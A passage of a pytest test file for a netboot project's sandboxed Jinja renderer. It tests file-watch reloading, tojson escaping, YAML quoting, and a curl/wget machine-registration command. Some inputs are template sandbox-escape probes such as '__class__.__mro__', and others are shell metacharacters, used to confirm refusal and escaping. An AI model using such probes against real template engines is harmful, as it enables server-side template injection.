    path.write_text("#!ipxe\necho one\n")
    r = Renderer([tmp_path, templates_dir()], recheck=3600)
    assert r.render("ipxe/hold.ipxe", {}) == "#!ipxe\necho one\n"
    assert r.generation() != r.generation()  # no watch: every use checks
    path.write_text("#!ipxe\necho two\n")
    st = path.stat()
    os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns + 2_000_000_000))
    assert r.render("ipxe/hold.ipxe", {}) == "#!ipxe\necho two\n"


@pytest.mark.parametrize("value", [
    "edge-000123", "a 'quoted' \"value\" <b>&amp;</b>", "\\ \n\t\x7f/",
    "ünïcödé \u2028 \x00 \ud800"[:-1], "<a href='x'>&\"é\n" * 100,  # kept: printed again
    {"b": 1, "a": [1.5, None, True, "x"]}, ["z", {"y": {"x": 1}}], 0, -1.25, None, "",
])
def test_tojson_writes_what_jinjas_own_writes(tmp_path: Path, value: object) -> None:
    """tojson's dumps (one encoder, not one per value) gives Jinja's own text, with its
    default sort_keys and with other arguments alike."""
    import jinja2
    from jinja2.sandbox import ImmutableSandboxedEnvironment

    # Markup as Jinja's (what is added to it is escaped), a str's as anything else's.
    (tmp_path / "t.txt").write_text("{{ v | tojson }}|{{ v | tojson(indent=2) }}|"
                                    "{{ (v | tojson) + '<&' }}")
    plain = ImmutableSandboxedEnvironment(loader=jinja2.FileSystemLoader(str(tmp_path)),
                                          autoescape=False, keep_trailing_newline=True)
    ours = Renderer([tmp_path]).render("t.txt", {"v": value})
    assert ours == plain.get_template("t.txt").render(v=value)


def test_a_pinned_render_looks_at_the_watch_once(tmp_path: Path) -> None:
    """Inside ``pinned()`` (one answer: an install script and its command line, a config and
    its) the files are checked at its start only; the edit made meanwhile is seen by the
    next answer."""
    (tmp_path / "ipxe").mkdir()
    path = tmp_path / "ipxe" / "hold.ipxe"
    path.write_text("#!ipxe\necho one {{ mac }}\n")
    (tmp_path / "cmdline.txt").write_text("one\n")
    r = Renderer([tmp_path], recheck=3600)
    with r.pinned():
        generation = r.generation()
        assert r.render("ipxe/hold.ipxe", {"mac": "m1"}) == "#!ipxe\necho one m1\n"
        _edit(path, "#!ipxe\necho two {{ mac }}\n")
        _edit(tmp_path / "cmdline.txt", "two\n")
        with r.pinned():  # nested: still the moment the outer one began
            assert r.generation() == generation
        assert r.render("ipxe/hold.ipxe", {"mac": "m1"}) == "#!ipxe\necho one m1\n"
        assert r.text("cmdline.txt") == "two\n"  # first read inside: as it is then
    assert r.generation() != generation
    assert r.render("ipxe/hold.ipxe", {"mac": "m1"}) == "#!ipxe\necho two m1\n"
    with pytest.raises(RenderError), r.pinned():  # the pin ends with the error
        r.render("ipxe/missing.ipxe", {})
    _edit(path, "#!ipxe\necho three {{ mac }}\n")
    assert r.render("ipxe/hold.ipxe", {"mac": "m1"}) == "#!ipxe\necho three m1\n"


def test_the_requests_that_arrived_before_a_look_at_the_watch_share_it(tmp_path: Path,
                                                                       ) -> None:
    """A request that says when it arrived (netboot.arrival: the HTTP front door, one loop
    iteration's reads) is answered by a look at the watch made after that moment: it saw
    every edit made before the request was sent, so the requests of one iteration share one
    poll(2). An edit made after that look is not promised to a request that had arrived
    before it (here: the old text, which shows the look was shared), and is seen by any
    request that arrives after it, and by every use that says no arrival (the API, tools),
    as before. Closed, the renderer checks the files at every use whatever the arrival."""
    (tmp_path / "ipxe").mkdir()
    path = tmp_path / "ipxe" / "hold.ipxe"
    path.write_text("#!ipxe\necho one {{ mac }}\n")
    r = Renderer([tmp_path], recheck=3600)
    assert r.render("ipxe/hold.ipxe", {"mac": "m"}) == "#!ipxe\necho one m\n"
    if r._fresh._watch is None:
        pytest.skip("no inotify instance free for this user (fs.inotify.max_user_instances)")
    came = time.monotonic()
    with arrived(came):
        assert r.render("ipxe/hold.ipxe", {"mac": "m"}) == "#!ipxe\necho one m\n"
    _edit(path, "#!ipxe\necho two {{ mac }}\n")
    with arrived(came):  # had arrived before the look that answered it, and the edit
        assert r.render("ipxe/hold.ipxe", {"mac": "m"}) == "#!ipxe\necho one m\n"
        with r.pinned():
            assert r.render("ipxe/hold.ipxe", {"mac": "m"}) == "#!ipxe\necho one m\n"
    with arrived(time.monotonic()):  # arrived after the edit: looks again, and sees it
        assert r.render("ipxe/hold.ipxe", {"mac": "m"}) == "#!ipxe\necho two m\n"
    _edit(path, "#!ipxe\necho three {{ mac }}\n")
    assert r.render("ipxe/hold.ipxe", {"mac": "m"}) == "#!ipxe\necho three m\n"  # no arrival
    with arrived(came):
        _edit(path, "#!ipxe\necho four {{ mac }}\n")
        assert r.render("ipxe/hold.ipxe", {"mac": "m"}) == "#!ipxe\necho three m\n"
        r.close()
        assert r.render("ipxe/hold.ipxe", {"mac": "m"}) == "#!ipxe\necho four m\n"


@pytest.mark.parametrize("watched", [True, False], ids=["inotify", "too-big-to-watch"])
def test_a_plain_file_is_read_again_only_when_it_changed(tmp_path: Path, watched: bool,
                                                        ) -> None:
    """``text()`` (the default kernel command lines) follows edits, an override made in
    a directory searched first and its removal, and a file that is not there (None)."""
    if not watched:
        for n in range(300):
            (tmp_path / "many" / str(n)).mkdir(parents=True)
    own, shipped_dir = tmp_path / "own", tmp_path / "shipped"
    (own / "cmdline").mkdir(parents=True)
    (shipped_dir / "cmdline").mkdir(parents=True)
    shipped = shipped_dir / "cmdline" / "k3os.txt"
    shipped.write_text("shipped\n")
    r = Renderer([own, shipped_dir, tmp_path], recheck=3600)
    assert r.text("cmdline/k3os.txt") == "shipped\n"
    assert r.text("cmdline/k3os.txt") == "shipped\n"
    assert r.text("cmdline/none.txt") is None
    _edit(shipped, "edited\n")
    assert r.text("cmdline/k3os.txt") == "edited\n"
    (own / "cmdline" / "k3os.txt").write_text("own\n")
    assert r.text("cmdline/k3os.txt") == "own\n"
    (own / "cmdline" / "k3os.txt").unlink()
    assert r.text("cmdline/k3os.txt") == "edited\n"
    (own / "cmdline" / "none.txt").mkdir()  # a directory of that name is not the file
    assert r.text("cmdline/none.txt") is None


def test_close_gives_the_inotify_instance_back(tmp_path: Path) -> None:
    """A renderer holds an inotify instance from its first render until close(); rendering
    after it still follows edits (every use checks the files, as without a watch)."""
    (tmp_path / "ipxe").mkdir()
    path = tmp_path / "ipxe" / "hold.ipxe"
    path.write_text("#!ipxe\necho one\n")
    before = inotify_instances()
    r = Renderer([tmp_path], recheck=3600)
    assert r.render("ipxe/hold.ipxe", {}) == "#!ipxe\necho one\n"
    assert inotify_instances() in (before, before + 1)  # inotify instances may run out
    r.close()
    assert inotify_instances() == before
    r.close()  # again: nothing more to give back
    _edit(path, "#!ipxe\necho two\n")
    assert r.render("ipxe/hold.ipxe", {}) == "#!ipxe\necho two\n"
    assert r.generation() != r.generation()  # no watch now
    assert inotify_instances() == before


def test_a_renderer_dropped_without_close_gives_its_inotify_instance_back(tmp_path: Path,
                                                                         ) -> None:
    """The watch's descriptor is closed when the watch is collected, as by close() (the
    compiled build's watch, a native class, takes no weak reference: no finalizer)."""
    (tmp_path / "ipxe").mkdir()
    (tmp_path / "ipxe" / "hold.ipxe").write_text("#!ipxe\necho one\n")
    before = inotify_instances()
    r = Renderer([tmp_path], recheck=3600)
    r.render("ipxe/hold.ipxe", {})
    if inotify_instances() == before:
        pytest.skip("no inotify instance free for this user (fs.inotify.max_user_instances)")
    del r
    assert inotify_instances() == before


def test_running_without_a_watch_is_told_once_with_the_limit_to_raise(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture,
        ) -> None:
    """No inotify instance left: a warning at the first render names the limit, its value
    and the fix, once (it was a debug line: a test counting renders, or an operator asking
    why every use stats its files, saw nothing; s40-flake)."""
    no_inotify_instance_left(monkeypatch)
    (tmp_path / "t.ipxe").write_text("#!ipxe\n")
    r = Renderer([tmp_path], recheck=3600)
    with caplog.at_level("WARNING"):
        for _ in range(3):
            assert r.render("t.ipxe", {}) == "#!ipxe\n"
    limit = Path("/proc/sys/fs/inotify/max_user_instances").read_text().strip()
    [record] = [rec for rec in caplog.records if "inotify" in rec.getMessage()]
    assert record.levelname == "WARNING"
    assert "checked at every use" in record.getMessage()
    assert f"fs.inotify.max_user_instances={limit} " in record.getMessage()
    assert "sysctl" in record.getMessage()


def test_a_renderer_dropped_without_close_is_freed_by_its_last_reference(tmp_path: Path,
                                                                       ) -> None:
    """A renderer used in every way (pinned, a split install script, a command line, a
    config) and dropped gives its inotify instance back at once, not when the cyclic
    collector happens to run: its pin held its freshness, which held the pin (a cycle), and
    a test file's dropped renderers held up to 31 of the user's 128 instances at once, the
    machine's other processes' share (s40-flake)."""
    import gc

    from netboot.render import _Freshness

    def held() -> int:  # as inotify_instances(), without its collection
        return sum(os.readlink(f"/proc/self/fd/{fd}") == "anon_inode:inotify"
                   for fd in os.listdir("/proc/self/fd") if os.path.exists(f"/proc/self/fd/{fd}"))

    (tmp_path / "ipxe").mkdir()
    (tmp_path / "ipxe" / "t.ipxe").write_text("#!ipxe\necho {{ mac }}\n")
    (tmp_path / "c.yaml").write_text("k: {{ mac | tojson }}\n")
    gc.collect()
    gc.disable()
    try:
        before = {id(o) for o in gc.get_objects() if type(o) is _Freshness}
        count = held()
        r = Renderer([tmp_path], volatile=frozenset({"mac"}), recheck=3600)
        for mac in ("m1", "m2"):
            with r.pinned():
                assert r.ipxe_with("ipxe/t.ipxe", lambda names, m=mac: {"mac": m}) \
                    == f"#!ipxe\necho {mac}\n"
                assert r.cmdline("a={{ mac }}", {"mac": mac}, "w") == f"a={mac}"
                r.yaml_config("c.yaml", lambda names, m=mac: {"mac": m})
        watched = r._fresh._watch is not None
        assert held() == count + watched
        del r
        assert [o for o in gc.get_objects()
                if type(o) is _Freshness and id(o) not in before] == []
        assert held() == count
    finally:
        gc.enable()


class _Attrs:
    hostname = "from-an-attribute"


@pytest.mark.parametrize("source", [
    "{{ d.hostname }}", "{{ d.missing }}", "{{ d['hostname'] }}", "{{ d.keys }}",
    "{{ d.items() | list }}", "{{ d.pop }}", "{{ d.pop('hostname') }}", "{{ d.clear() }}",
    "{{ d.__class__ }}", "{{ d.__class__.__mro__ }}", "{{ d.update }}", "{{ d.get('x') }}",
    "{{ sub.hostname }}", "{{ sub.pop }}", "{{ obj.hostname }}", "{{ obj.__class__ }}",
    "{{ d.nested.hostname }}", "{{ (d.nested or {}).more }}", "{{ d.hostname.upper() }}",
    "{{ ('{0}' ~ d.hostname).format(d.keys) }}", "{{ d.hostname | tojson ~ '<' }}",
])
def test_dict_lookups_are_what_the_sandbox_gives(tmp_path: Path, source: str) -> None:
    """``dict.key`` is looked up without the sandbox's getattr-first detour where that
    getattr cannot succeed; the text, the undefined value and every refusal stay the
    sandbox's own (a plain ImmutableSandboxedEnvironment's), for dicts, dict subclasses,
    objects, and names a dict's own attributes have (``pop``, ``update``, ``__class__``)."""
    import jinja2
    from jinja2.sandbox import ImmutableSandboxedEnvironment, SecurityError

    class Sub(dict[str, object]):
        pass

    context = {"d": {"hostname": "edge-1", "pop": "a key named pop", "keys": "k",
                     "nested": {"hostname": "n"}},
               "sub": Sub(hostname="s", pop="p"), "obj": _Attrs()}
    (tmp_path / "t.txt").write_text(source)
    plain = ImmutableSandboxedEnvironment(loader=jinja2.FileSystemLoader(str(tmp_path)),
                                          undefined=jinja2.StrictUndefined, autoescape=False,
                                          keep_trailing_newline=True)
    try:
        expected: object = plain.get_template("t.txt").render(**context)
    except (jinja2.UndefinedError, SecurityError) as exc:
        expected = type(exc)
    try:
        ours: object = Renderer([tmp_path]).render("t.txt", context)
    except RenderError as exc:
        ours = type(exc.__cause__)
    assert ours == expected


def test_a_render_is_jinjas_own_with_globals_imports_and_inheritance(tmp_path: Path) -> None:
    """The render (its Context made without Jinja's copies) gives Jinja's own text for
    templates that use its globals (``range``, ``namespace``, ``dict``), import macros with
    and without the context, include and extend others, and set variables; and the same
    undefined-name error."""
    import jinja2
    from jinja2.sandbox import ImmutableSandboxedEnvironment

    files = {
        "macros.txt": "{% macro m(x) %}<{{ x }}:{{ v }}>{% endmacro %}",
        "plain.txt": "{% macro p(x) %}[{{ x }}]{% endmacro %}",
        "base.txt": "head {{ v }} {% block body %}base{% endblock %} tail\n",
        "part.txt": "part {{ v }} {{ range(2) | list }}",
        "t.txt": (
            "{% extends 'base.txt' %}{% block body %}"
            "{% import 'macros.txt' as mac with context %}{% import 'plain.txt' as pl %}"
            "{% set ns = namespace(n=0) %}{% for i in range(3) %}{% set ns.n = ns.n + i %}"
            "{% endfor %}{{ ns.n }} {{ mac.m(1) }} {{ pl.p(2) }} {{ dict(a=v) | tojson }}"
            " {% include 'part.txt' %}"
            "{% endblock %}"),
        "undefined.txt": "{{ v }} {{ nothing.here }}",
    }
    for name, text in files.items():
        (tmp_path / name).write_text(text)
    plain = ImmutableSandboxedEnvironment(loader=jinja2.FileSystemLoader(str(tmp_path)),
                                          undefined=jinja2.StrictUndefined, autoescape=False,
                                          keep_trailing_newline=True)
    r = Renderer([tmp_path])
    # The second context shadows a global, as a context name does.
    for context in ({"v": "a"}, {"v": "b", "range": lambda n: [9]}):
        assert r.render("t.txt", context) == plain.get_template("t.txt").render(**context)
    with pytest.raises(jinja2.UndefinedError):
        plain.get_template("undefined.txt").render(v=1)
    with pytest.raises(RenderError, match="'nothing' is undefined"):
        r.render("undefined.txt", {"v": 1})


# The pattern of a double-quoted value before it was unrolled (render._QUOTED_IN_TEXT).
_QUOTED_BEFORE = (r'"(?:[\x20\x21\x23-\x5b\x5d-\x7e]++|\\["\\bfnrt]'
                  r'|\\u(?![dD][89a-fA-F])[0-9a-fA-F]{4})*+"')


def test_a_config_that_libyaml_refuses_for_a_surrogate_is_refused_after_its_form_is_known(
        tmp_path: Path) -> None:
    """A value printed with tojson whose str holds a lone low surrogate is a "\\udc00" escape,
    which libyaml refuses as it refuses a high one: the text of a form seen before (the YAML
    shapes, their _QUOTED class) is not known to parse then, but parsed, and refused (it was
    served: _QUOTED refused only \\ud800 to \\udbff)."""
    (tmp_path / "cloud-config").mkdir()
    (tmp_path / "cloud-config" / "t.yaml").write_text("k: {{ v | tojson }}\n")
    r = Renderer([tmp_path], recheck=3600)
    for v in ("a", "b", "c"):  # the form learnt, then found again
        assert r.yaml_config("cloud-config/t.yaml", lambda names, v=v: {"v": v}) == \
            f'k: "{v}"\n'
    for v in ("\udc00", "a\udfffb", "\ud800"):
        with pytest.raises(RenderError, match="invalid YAML"):
            r.yaml_config("cloud-config/t.yaml", lambda names, v=v: {"v": v})
    assert r.yaml_config("cloud-config/t.yaml", lambda names: {"v": "\ue000"}) == \
        'k: "\\ue000"\n'  # past the surrogates: libyaml reads it


def test_the_unrolled_quoted_pattern_matches_what_the_one_before_matched() -> None:
    """The same texts, and the same length matched at their start, on generated values:
    escapes valid and not, surrogates, quotes, controls, non-ASCII, text after the value."""
    import random
    import re

    from netboot.render import _QUOTED

    before = re.compile(_QUOTED_BEFORE)
    draw = random.Random(23)
    alphabet = ['"', "\\", "u", "d", "D", "8", "a", "B", "0", "f", "n", "t", "x", " ", "\x7f",
                "\n", "é", "\x00"]
    for _ in range(40_000):
        text = '"' + "".join(draw.choice(alphabet) for _ in range(draw.randrange(14)))
        for t in (text, text + '"', text + '"z"'):
            a, b = before.match(t), _QUOTED.match(t)
            assert (a and a.end()) == (b and b.end()), t
            assert (before.fullmatch(t) is None) == (_QUOTED.fullmatch(t) is None), t


def test_a_forms_pattern_matched_piece_by_piece_answers_as_the_whole_pattern() -> None:
    """_FormPattern (literal runs compared whole, each value's class matched from where the
    text before it ended) says what the form's whole pattern says, on texts made of the
    form's pieces with values of every class and of none (a quote, a line break, the stop
    character of a printable value, a value missing or doubled)."""
    import itertools
    import random
    import re

    from netboot.render import _QUOTED_IN_TEXT, _FormPattern, _Marked, _printable_but, _stop

    def whole_pattern(marked: _Marked, kinds: str) -> str:
        """The form as one regular expression (what render matched before _FormPattern):
        its pieces, each value verbatim or a possessive run of its class."""
        pieces, values = marked.pieces, marked.values
        parts = [re.escape(pieces[0])]
        for i, kind in enumerate(kinds):
            parts.append(re.escape(values[i]) if kind == "v" else _QUOTED_IN_TEXT
                         if kind == "q" else _printable_but(_stop(values, kinds, i, pieces[i + 1])))
            parts.append(re.escape(pieces[i + 1]))
        return "".join(parts)

    pieces = ("# for ", ": x\nk: ", "\nurl: ", " # ", "\n", "")
    values = ("edge-1", '"v1 \\"m\\": \\"a1\\"\\u0027 t"', '"https://a"', "note", "tail")
    # The values of the form's text before (a quoted value's own form: its escapes and the
    # runs alike, _quoted_form), or none.
    befores = (None, ("edge-0", '"v0 \\"m\\": \\"a0\\"\\u0027 t"', '"https://b"', "n", "t"),
               ("edge-0", '"v0 \\"m\\": \\"a1\\"\\u0027 t"', '"x\\"y"', "n", "t"))
    kinds_of = ("cqvcb", "cqqcv", "vvqbc", "cqqcc")
    marked = _Marked("", pieces, values)
    draw = random.Random(10)
    choices = ["edge-2", "a:b", '"v\\"2"', '"bad\\x"', '"https://a"', "note", "", " ", "\n",
               '"', "tail", "x\x7f", '"u\\u00e9"', '"s\\ud800"',
               '"v2 \\"m\\": \\"a2\\"\\u0027 t"', '"v2 \\"m\\": \\"a\\u00e9\\"\\u0027 t"',
               '" \\"m\\": \\"\\"\\u0027 t"', '"v2 \\"m\\": \\"a"2\\"\\u0027 t"',
               '"v2 \\"m\\": \\"a2\\"\\u0027 t', '"v2 \\"m\\": \\"a\\"\\"\\u0027 t"',
               '"v2 \\"m\\": \\"a2\\"\\ud800 t"', '"v2 \\"m\\": \\"a\x7f\\"\\u0027 t"',
               '"v2 \\"m\\": \\"a2\\"\\u0027 t" #', '"v1 \\"m\\": \\"a1\\"\\u0027 t"']
    for kinds, before in itertools.product(kinds_of, befores):
        whole = re.compile(whole_pattern(marked, kinds))
        form = _FormPattern(marked, kinds, before)
        for _ in range(3_000):
            vals = [draw.choice(choices) if draw.random() < 0.7 else v for v in values]
            text = pieces[0] + "".join(v + p for v, p in zip(vals, pieces[1:], strict=True))
            if draw.random() < 0.1:
                text = text[:draw.randrange(len(text) + 1)]  # cut short
            assert (whole.fullmatch(text) is not None) == (form.fullmatch(text) is not None), \
                (kinds, text)


def test_a_quoted_values_own_form_ends_where_the_quoted_pattern_does() -> None:
    """A double-quoted value's own form (render._quoted_form: the escapes and runs alike in
    two texts literal, a plain run where they differ, else _QUOTED) matches what _QUOTED
    matches, to the same end, on texts drawn from the two with runs and escapes replaced
    (quotes, backslashes, controls, non-ASCII, escapes valid and not, text after)."""
    import random

    from netboot.render import _QUOTED, _quoted_form

    draw = random.Random(26)
    run = ["", "a", "edge-7", "02:00:00:00:01:02", " x y ", '"', "\\", "\x7f", "é", "\n",
           "\\u00e9", "\\ud800", "\\x", "\\\"", "'", "z" * 40]
    escapes = ['\\"', "\\\\", "\\u0027", "\\n", "\\u003c", "\\ud800", "\\q"]
    used = 0
    for _ in range(300):
        count = draw.randrange(5)
        runs = [draw.choice(run[:5]) for _ in range(count + 1)]
        escs = [draw.choice(escapes[:5]) for _ in range(count)]

        def text(runs: list[str], escs: list[str]) -> str:
            return '"' + "".join(r + e for r, e in zip(runs, [*escs, ""], strict=True)) + '"'

        before = text([draw.choice(run[:5]) if draw.random() < 0.5 else r for r in runs],
                      escs)
        own = _quoted_form(before, text(runs, escs))
        if own is None:
            continue
        used += 1
        for _ in range(60):
            rs = [draw.choice(run) if draw.random() < 0.4 else r for r in runs]
            es = [draw.choice(escapes) if draw.random() < 0.1 else e for e in escs]
            t = text(rs, es) + draw.choice(["", '"', " #", "x"])
            if draw.random() < 0.1:
                t = t[:draw.randrange(len(t) + 1)]
            a, b = own.match(t), _QUOTED.match(t)
            assert (a and a.end()) == (b and b.end()), (before, t)
    assert used > 100, used


def test_tojson_of_more_strings_than_are_kept_writes_jinjas_text(tmp_path: Path) -> None:
    """tojson's texts of short strings are kept by value (a cluster's URL and token in each
    of its configs): more than are kept, printed twice, each is Jinja's own text."""
    import jinja2
    from jinja2.sandbox import ImmutableSandboxedEnvironment

    (tmp_path / "t.txt").write_text("{{ v | tojson }}")
    plain = ImmutableSandboxedEnvironment(loader=jinja2.FileSystemLoader(str(tmp_path)),
                                          autoescape=False, keep_trailing_newline=True)
    r = Renderer([tmp_path])
    values = [f"edge-{i} <'&'> \"é\"" for i in range(600)]
    for v in values + values[::-1]:
        assert r.render("t.txt", {"v": v}) == plain.get_template("t.txt").render(v=v)


def _plain_register_command(url: str, mac: str, token: str, node_name: str) -> str:
    """The register command as one str, written as plainly as it reads (the text
    register_command's Splice must give)."""
    import json
    import shlex

    def sq(text: str) -> str:
        return text.replace("'", "'\\''")

    def js(value: str) -> str:
        return json.dumps(value)[1:-1]

    u, d = shlex.quote(url), "/var/lib/netboot"
    post = ("if command -v curl >/dev/null; "
            f"then o=$(curl -fsS -m 30 -H 'Content-Type: application/json' -d \"$b\" {u}); "
            "else o=$(wget -q -O- --header 'Content-Type: application/json' --post-data "
            f"\"$b\" {u}); fi")
    key = "'\"machine_token\": \"'"
    return (f"s={d}/install-secret; [ -s $s ] || (umask 077; mkdir -p {d} && cat "
            "/proc/sys/kernel/random/uuid >$s.n && mv $s.n $s) 2>/dev/null; "
            f"k={d}/machine-token; n=360; b='" + sq('{"mac":"' + js(mac) + '",')
            + "'; a='" + sq('"token":"' + js(token) + '"')
            + "'; [ -s $k ] && { n=30; a='\"machine_token\":\"'\"$(cat $k)\"'\"'; }; "
            "b=\"$b$a\"'" + sq(',"keeps":"machine_token","hostname":"') + "'\"$(hostname)\"'"
            + sq('","machine_id":"') + "'\"$(cat /etc/machine-id 2>/dev/null)\"'"
            + sq('","install_secret":"') + "'\"$(cat $s 2>/dev/null)\"'"
            + sq('","node_name":"' + js(node_name) + '"}') + "'; "
            "r() { i=0; while [ $i -lt $n ]; do "
            f"{post} && {{ mkdir -p {d} && touch {d}/registered; "
            f"case $o in *{key}*) t=${{o#*{key}}}; t=${{t%%'\"'*}}; "
            "[ -z \"$t\" ] || (umask 077; printf %s \"$t\" >$k);; esac; "
            "return 0; }; i=$((i+1)); sleep 10; done; }; "
            f"if [ -s $k ]; then r & elif [ ! -f {d}/registered ]; then r; fi")


# Characters a value may need escaped in JSON, in HTML (tojson) or for the shell, and others.
_ODD = "ab9:-_ %\"\\<>&'\n\t\x00\x7fé\u2028\U0001f600$()`;"


def test_a_register_commands_splice_gives_the_plain_text_and_jinjas_tojson(
        tmp_path: Path) -> None:
    """The register command made of its Splice (its text around the machine's values made
    once per base URL; tojson escaping only the values) is, for many drawn values with
    everything that needs escaping, the plain command, and prints as Jinja prints that str:
    through tojson, whole, sliced, joined, filtered."""
    import random

    import jinja2
    from jinja2.sandbox import ImmutableSandboxedEnvironment

    from netboot.content import register_texts

    source = ("{{ v | tojson }}|{{ v }}|{{ (v | tojson)[3:] }}|{{ v ~ '<&' }}|{{ v | upper }}"
              "|{{ [v, 1] | tojson }}|{{ v | length }}|{{ v | tojson(indent=1) }}\n")
    (tmp_path / "t.txt").write_text(source)
    plain = ImmutableSandboxedEnvironment(loader=jinja2.FileSystemLoader(str(tmp_path)),
                                          autoescape=False, keep_trailing_newline=True)
    ours = Renderer([tmp_path])
    draw = random.Random(25)
    urls = ["http://192.0.2.10:8080/api/v1/register", "http://h/'x<&>%s%%\\\"/api é"]
    texts = {url: register_texts(url) for url in urls}
    for _ in range(600):
        url = draw.choice(urls)
        values = ["".join(draw.choice(_ODD) for _ in range(draw.randrange(12)))
                  if draw.random() < 0.5 else draw.choice(["52:54:00:00:00:11", "edge-1", ""])
                  for _ in range(3)]
        want = _plain_register_command(url, *values)
        for cmd in (register_command(url, *values), register_command(url, *values,
                                                                     texts=texts[url])):
            assert cmd == want
            assert ours.render("t.txt", {"v": cmd}) == plain.get_template("t.txt").render(
                v=want)


def test_plain_values_are_written_as_they_are_by_tojson_and_the_register_command(
        tmp_path: Path) -> None:
    """A str of printable ASCII without JSON's, HTML's and the shell's special characters
    (render.plain) is written as it is, between quotes, by tojson and inside the register
    command (session 31): for every ASCII character and a few others, alone in a value and
    beside plain ones, tojson's text (of a value it has not kept, and printed again) and
    the register command's (plain text, through tojson) are Jinja's own text of the plain
    str; the command takes its values as they are exactly when they are plain."""
    import jinja2
    from jinja2.sandbox import ImmutableSandboxedEnvironment

    from netboot.content import register_texts
    from netboot.render import plain as is_plain

    (tmp_path / "t.txt").write_text("{{ v | tojson }}|{{ (v | tojson) + '<&' }}|{{ v }}")
    jinja = ImmutableSandboxedEnvironment(loader=jinja2.FileSystemLoader(str(tmp_path)),
                                          autoescape=False, keep_trailing_newline=True)
    ours = Renderer([tmp_path])
    url = "http://192.0.2.10:8080/api/v1/register"
    texts = register_texts(url)
    chars = [chr(c) for c in range(128)] + ["\xe9", "\u2028", "\U0001f600"]
    plain_seen = 0
    for ch in chars:
        for v in (ch, f"edge-{ord(ch)}{ch}x", f"{ch}{ch}-{ord(ch)}-tail"):
            for _ in range(2):  # a miss, then the text kept
                assert ours.render("t.txt", {"v": v}) == jinja.get_template("t.txt").render(v=v)
            values = ("52:54:00:00:00:11", f"tok{v}", f"node-{v}")
            cmd = register_command(url, *values, texts=texts)
            want = _plain_register_command(url, *values)
            assert cmd == want
            assert cmd.plain == is_plain(values)
            plain_seen += cmd.plain
            assert ours.render("t.txt", {"v": cmd}) == jinja.get_template("t.txt").render(
                v=want)
    # The plain class: printable ASCII but for '"', '\\', '<', '>', '&' and "'".
    assert plain_seen == 3 * (0x7f - 0x20 - 6)


def test_configs_with_spliced_register_commands_are_the_plain_renders() -> None:
    """Every shipped config of many drawn machines (hostnames, tokens, node names with
    quotes, backslashes, HTML's characters, non-ASCII, line breaks), through Content's path
    (its register command a Splice's, the YAML form check), is the text Jinja renders of the
    same context with the command as a plain str; one that does not parse is refused alike."""
    import random

    import jinja2
    from jinja2.sandbox import ImmutableSandboxedEnvironment

    plain = ImmutableSandboxedEnvironment(loader=jinja2.FileSystemLoader(str(templates_dir())),
                                          undefined=jinja2.StrictUndefined,
                                          autoescape=False, keep_trailing_newline=True)
    c = content()
    draw = random.Random(2025)
    names = ["cloud-config/k3os.yaml", "cloud-config/cloud-init/user-data",
             "cloud-config/cloud-init/meta-data"]
    for _ in range(300):
        odd = "".join(draw.choice(_ODD) for _ in range(draw.randrange(10)))
        hostname = draw.choice([None, "edge-1", f"node-{draw.randrange(1000)}", odd])
        k3s = dataclasses.replace(K3S, node_name=draw.choice(["edge-1", odd, ""]))
        token = draw.choice(["TOKEN123", odd, "x" * 43])
        p = plan(BootAction.INSTALL, machine=dataclasses.replace(MACHINE, hostname=hostname),
                 k3s=k3s, token=token)
        for name in names:
            ctx = c.context(p)
            ctx["register_command"] = str(ctx["register_command"])
            want = plain.get_template(name).render(ctx)
            try:
                yaml.load(want, Loader=getattr(yaml, "CSafeLoader", yaml.SafeLoader))
            except yaml.YAMLError:  # as the renderer parses (libyaml refuses a surrogate)
                with pytest.raises(RenderError):
                    c._config(name, p)
                continue
            assert c._config(name, p) == want


def test_a_frozen_value_keys_split_renders_by_its_identity() -> None:
    """A ``stable`` name's value frozen (Renderer.freeze: never changed once made, as
    Content's profile dicts) keys a skeleton by a serial of its own, not its content: a new
    value (a profile's next version) renders its own text, even at the id of one freed
    before it; an unfrozen value is still keyed by its content."""
    r = Renderer([templates_dir()], volatile=PER_MACHINE, stable=frozenset({"profile"}))
    source = "{{ profile.name }} {{ profile.initrds }} {{ mac }}"
    for i in range(20):
        pdict = {"name": f"p{i}", "initrds": [f"i{i}"]}
        r.freeze(pdict)
        for mac in ("m1", "m2"):
            ctx = {"profile": pdict, "mac": mac}
            assert r.render_string(source, ctx, what="t", volatile=PER_MACHINE) == \
                f"p{i} ['i{i}'] {mac}"
        del pdict, ctx  # its id is free for the next one's
    (split,) = [s for _, s in r._splits.values() if s is not None]
    assert len(split.skeletons) == 20
    unfrozen: dict[str, object] = {"name": "a", "initrds": []}
    ctx = {"profile": unfrozen, "mac": "m"}
    assert r.render_string(source, ctx, what="t", volatile=PER_MACHINE) == "a [] m"
    unfrozen["name"] = "b"
    assert r.render_string(source, ctx, what="t", volatile=PER_MACHINE) == "b [] m"


def test_a_split_render_of_frozen_and_unchanging_values_renders_each_set_its_own() -> None:
    """Where each fixed value is frozen (Renderer.freeze) or a str, int, float, bool or
    None, as an install script's and its command line's are, each set of values renders its
    own text, even new values at the ids of ones freed before them (a key by ids alone would
    find the freed one's text); a value neither frozen nor of such a type (a dict, a list)
    is keyed by its content, so a change to it is rendered, as before. (Session 29's
    s29-install keyed such values by their ids; s29-config's split keys them by serial and
    value, which the merge kept: the texts asserted are what either must give.)"""
    r = Renderer([templates_dir()], volatile=PER_MACHINE, stable=frozenset({"profile"}))
    source = ("{{ profile.name }} {{ plan.reason }} {{ initrds }} {{ console }} {{ n }} {{ x }}"
              " {{ mac }}")
    for i in range(20):
        pdict, pplan, initrds = {"name": f"p{i}"}, {"reason": f"r{i}"}, [f"i{i}"]
        for value in (pdict, pplan, initrds):
            r.freeze(value)
        console, x = f"c{i}", None if i % 2 else 0.5
        for mac in ("m1", "m2"):
            ctx = {"profile": pdict, "plan": pplan, "initrds": initrds, "console": console,
                   "n": i, "x": x, "mac": mac}
            assert r.render_string(source, ctx, what="t", volatile=PER_MACHINE) == \
                f"p{i} r{i} ['i{i}'] c{i} {i} {None if i % 2 else 0.5} {mac}"
        del pdict, pplan, initrds, console, x, ctx  # their ids are free for the next ones'
    (split,) = [s for _, s in r._splits.values() if s is not None]
    assert len(split.skeletons) == 20  # one each, found again
    pdict, pplan = {"name": "q"}, {"reason": "s"}
    r.freeze(pdict)
    r.freeze(pplan)
    for unfrozen in ([], {"a": 1}):  # a list, a dict: never found by identity
        ctx = {"profile": pdict, "plan": pplan, "initrds": unfrozen, "console": "c", "n": 1,
               "x": None, "mac": "m"}
